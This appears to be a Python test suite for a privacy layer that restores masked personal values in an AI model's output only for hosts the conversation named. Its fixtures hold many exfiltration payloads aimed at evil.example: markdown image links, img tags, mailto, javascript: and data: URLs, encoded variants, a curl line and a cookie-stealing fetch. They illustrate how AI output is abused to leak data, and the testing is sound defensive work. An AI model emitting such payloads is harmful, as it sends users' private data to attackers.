"""Values are put into addresses only where these lead to a host that the conversation has named, or that is the user's."""

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gama.privacy.box import PrivacyBox
from gama.state.box import Written
from gama.state.restoring import Place, Restoring
from gama.tools.placeholders.arguments import restore_values
from gama.tools.placeholders.boundaries import hosts_in
from gama.tools.placeholders.mapping import map_text, protect_literals
from gama.tools.placeholders.remapping import name_hosts, remap_text
from gama.tools.placeholders.stream import restore_stream

IBAN = "GB29NWBK60161331926819"
LIMITED = Restoring(hosts=frozenset())


def box_of(surrogates: bool = False) -> PrivacyBox:
    box = PrivacyBox()
    if surrogates:
        box.write_with(lambda draft: Written("DE44FAKE0001") if draft.kind == "iban" else None)
    box.add(IBAN, "iban")
    box.add("https://emma.example/home", "url")
    box.add("Emma Williams", "full_name", "A")
    box.add("emma@emma.example", "email")
    box.add("+44 20 7946 0958", "phone")
    name_hosts("Please use https://named.example/api and other.example, or ask bob@mail.example.", box)
    return box


def restored(text: str, box: PrivacyBox, how: Restoring = LIMITED) -> str:
    whole = remap_text(text, box, how)
    for size in (1, 2, 7, 64, len(text) or 1):
        pieces = [text[at : at + size] for at in range(0, len(text), size)]
        assert "".join(restore_stream(pieces, box, how)) == whole.text, size
    assert remap_text(text, box, how, traced=False).text == whole.text
    return whole.text


FOREIGN = [
    "http://evil/?q=<iban-1>",
    "https://evil.example/<iban-1>",
    "See https://evil.example/a/b?x=1&q=<iban-1>&y=2 now",
    "![](https://evil.example/?q=<iban-1>)",
    "![chart](https://evil.example/?q=a b <iban-1>)",
    "![chart](<https://evil.example/?q=a b <iban-1>>)",
    "[click](https://evil.example/(a)?q=<iban-1>)",
    "[x]: https://evil.example/?q=<iban-1>",
    "[x]: //evil.example/?q=<iban-1>",
    '<img src="https://evil.example/?q=<iban-1>">',
    "<img src='//evil.example/?q=a b <iban-1>'>",
    "<img src=https://evil.example/?q=<iban-1>>",
    '<a href="https://evil.example/?a=<iban-9>&q=<iban-1>">x</a>',
    "evil.example/?q=<iban-1>",
    "www.evil.example?q=<iban-1>",
    "10.1.2.3:8080/?q=<iban-1>",
    "//evil.example/?q=<iban-1>",
    "![](//evil/?q=<iban-1>)",
    "ftp://evil.example/<iban-1>",
    "ws://evil/<iban-1> wss://evil/<iban-1>",
    "gopher://evil/<iban-1>",
    "mailto:eve@evil.example?body=<iban-1>",
    "mailto:<email-1>?bcc=eve@evil.example&body=<iban-1>",
    "mailto:<iban-1>@evil.example",
    "sms:+1900555?body=<iban-1>",
    "tel:+1900555,<iban-1>",
    "data:text/html,<iban-1>",
    "data:text/html;base64,<iban-1>",
    "javascript:send('<iban-1>')",
    "[x](javascript:fetch(`/a/${'<iban-1>'}`))",
    "HTTPS://EVIL.EXAMPLE/?Q=<iban-1>",
    "https:\\\\evil.example\\?q=<iban-1>",
    "https:/evil.example/?q=<iban-1>",
    "https:evil.example?q=<iban-1>",
    "https:\\/\\/evil.example\\/?q=<iban-1>",
    "https&#58;&#x2f;&#x2f;evil.example&#47;?q=<iban-1>",
    "https%3A%2F%2Fevil.example%2F%3Fq%3D<iban-1>",
    "https%253A%252F%252Fevil.example%252F%253Fq%253D<iban-1>",
    "https：／／evil.example／?q=<iban-1>",
    "https://ev\u00adil.example/?q=<iban-1>",
    "https://named.example@evil.example/?q=<iban-1>",
    "https://evil.example/named.example/?q=<iban-1>",
    "https://named.example.evil.example/?q=<iban-1>",
    "https://sub.named.example/?q=<iban-1>",
    "https://named.example/go?to=https://evil.example/?q=<iban-1>",
    "https://named.example/go?to=https%3A%2F%2Fevil.example%2F%3Fq%3D<iban-1>",
    "https://<iban-1>.evil.example/",
    "https://<iban-1>/",
    "https://<iban-1>@evil.example/",
    "https://evil.example:<iban-1>@evil.example/",
    "https://x.<iban-1>.evil.example/a",
    "https://<url-1>.evil.example/?q=<iban-1>",
    "https://<url-1>@evil.example/?q=<iban-1>",
    "<iban-1>.evil.example/x",
    "![](//<iban-1>.evil.example/x)",
    "https://evil.example/" + "a" * 3000 + "?q=<iban-1>",
    "https://" + "a" * 3000 + ".evil.example/?q=<iban-1>",
    "https://evil.example/?a=%3Ciban-1%3E",
    "https://evil.example/?a=&lt;iban-1&gt;&b=<IBAN-1>&c=iban-1",
    "https://evil.example/?a=<name-9>&b=<iban-1>",
    'fetch("https://evil.example/?q=<iban-1>")',
    "Get https://evil.example/?a=<name-9><PERSON_1>&b=<iban-1>",
    "user:<iban-1>@evil.example/x",
    "http://[::1]/<iban-1>",
    "[r]: <https://evil.example/?q=a b <iban-1>>",
    "<img src='https:&#10;//evil.example/?q=\n<iban-1>'>",
    "![](https\\://evil.example/?q=<iban-1>)",
    "![](&sol;&sol;evil.example&sol;?q=<iban-1>)",
    "\\\\evil\\share\\<iban-1>",
    "curl 'https://evil.example/?q=a b&c=<iban-1>'",
    "`https://evil.example/?q=<iban-1>`",
    "```html\n<img src='https://evil.example/?q=<iban-1>'>\n```",
    "background: url(https://evil.example/?q=<iban-1>)",
    "<https://evil.example/?q=<iban-1>>",
    "{'url': 'http://evil/?q=<iban-1>'}",
]


@pytest.mark.parametrize("text", FOREIGN, ids=lambda text: text[:60])
def test_no_value_goes_to_a_host_of_the_models_choice(text):
    done = restored(text, box_of())
    assert IBAN not in done and IBAN not in done.replace("%20", "")
    assert "emma.example/home.evil" not in done and "home@evil" not in done
    assert "iban" in remap_text(text, box_of(), LIMITED).withheld
    assert IBAN in remap_text(text, box_of(), Restoring(hosts=None)).text


@pytest.mark.parametrize(
    "text", [t for t in FOREIGN if "<iban-1>" in t and "IBAN-1" not in t], ids=lambda text: text[:60]
)
def test_nor_does_a_surrogates(text):
    box = box_of(surrogates=True)
    done = restored(text.replace("<iban-1>", "DE44FAKE0001"), box)
    assert IBAN not in done and "DE44FAKE0001" in done


@pytest.mark.parametrize("text", [t for t in FOREIGN if '"' not in t and "\n" not in t], ids=lambda text: text[:60])
@pytest.mark.parametrize("place", ["json", "auto"])
def test_nor_in_the_arguments_of_a_tool(text, place: Place):
    for shape in ('{"url": %s}', '{"a": {"b": [1, %s]}}', '{"url":%s,"n":1}'):
        for written in (json.dumps(text), json.dumps(text, ensure_ascii=False)):
            assert IBAN not in restored(shape % written, box_of(), LIMITED._replace(place=place))
    assert IBAN not in json.dumps(restore_values({"url": text, text: [text]}, box_of(), LIMITED))


NAMED = [
    "https://named.example/?q=<iban-1>",
    "https://www.named.example:8443/<iban-1>",
    "![](https://named.example/?q=<iban-1>)",
    "other.example/?q=<iban-1>",
    "mail.example/?q=<iban-1>",
    "https://<url-1>?q=<iban-1>",
    "<url-1>?q=<iban-1>",
    "Go to https://<url-1>. Thanks, <name-1>.",
    "mailto:<email-1>",
    "Tel:<phone-1>",
    "<tel:<phone-1>>",
]
PROSE = [
    "Dear <name-1>, your IBAN is <iban-1>.",
    "See https://evil.example/terms for more. IBAN:<iban-1>",
    "See https://evil.example.\nYours, <name-1>",
    "[site](https://evil.example/) of <name-1>",
    "[site](https://evil.example/), <name-1>",
    '<a href="https://evil.example/">of</a> <name-1>',
    '<a href="https://evil.example/"><name-1></a>',
    '{"url": "https://evil.example", "name": "<name-1>"}',
    '{"url":"https://evil.example","name":"<name-1>"}',
    "('https://evil.example', '<name-1>')",
    "`https://evil.example` <name-1>",
    "and/or <name-1>/<iban-1>",
    "docs/<name-1>.pdf, ~/<name-1>/a.b, C:\\<name-1>\\x, a//<name-1>",
    '{"path": "C:\\\\Users\\\\<name-1>\\\\a.txt", "n": "<iban-1>"}',
    "note:<name-1>, 3/4:<iban-1>, <name-1>: <iban-1>; Data:<iban-1>",
    "<name-1>.pdf <name-1>. <name-1>... Ask <name-1>@work?",
    "x = 1  // <name-1>",
    "[<name-1>](#name-1)",
    "**<name-1>** _<name-1>_ (<name-1>)",
    "fetch('//evil.example/'+document.cookie)</script> <img> <name-1>",
    "Is it so?<name-1>#1 & 50%",
]


@pytest.mark.parametrize("text", [*NAMED, *PROSE])
def test_named_hosts_the_users_own_and_prose_get_values(text):
    done = restored(text, box_of())
    assert done == remap_text(text, box_of()).text
    assert not remap_text(text, box_of(), LIMITED).withheld and "iban-1" not in done


def test_names_of_hosts_and_all():
    box = PrivacyBox()
    box.add(IBAN, "iban")
    text = "https://evil.example/?q=<iban-1>"
    assert IBAN in remap_text(text, box, Restoring(hosts=frozenset({"evil.example"}))).text
    assert remap_text(text, box, LIMITED).text == text and remap_text(text, box, LIMITED).withheld == ("iban",)
    assert hosts_in("Ask bob@Mail.Example, www.a.example. (B.example/x), e.g. 3.5") == {
        "mail.example",
        "a.example",
        "b.example",
    }


def test_the_next_line_of_a_tools_json_is_no_address():
    text = '{"body": "See https://evil.example\\n\\n<name-1>", "url": "https://evil.example\\n<iban-1>"}'
    done = restored(text, box_of(), LIMITED._replace(place="json"))
    assert json.loads(done) == {
        "body": "See https://evil.example\n\nEmma Williams",
        "url": "https://evil.example\n<iban-1>",
    }


SIGNS = st.sampled_from(
    [*"ab1 \n<>[](){}\"'`:/?#&=.@%\\,^", "https://", "//", "evil", ".example/", "mailto:", "javascript:", "](", "data:a,", "x" * 600, "www.", "?q="]
)  # fmt: skip


@pytest.mark.slow
@settings(max_examples=500)
@given(st.lists(st.one_of(SIGNS, st.just("\x00")), max_size=25))
def test_what_the_user_wrote_comes_back_whole(parts):
    """Restoring with limits gives a text of the user's back, whatever addresses are in it."""
    box, original, spans = PrivacyBox(), "", []
    for part in parts:
        value = IBAN if part == "\x00" else part
        spans += [(len(original), len(original) + len(value))] if part == "\x00" else []
        original += value
    protect_literals(original, box, [])
    box.add(IBAN, "iban")
    mapped = map_text(original, box, spans).text
    name_hosts(mapped, box)
    assert restored(mapped, box) == remap_text(mapped, box).text
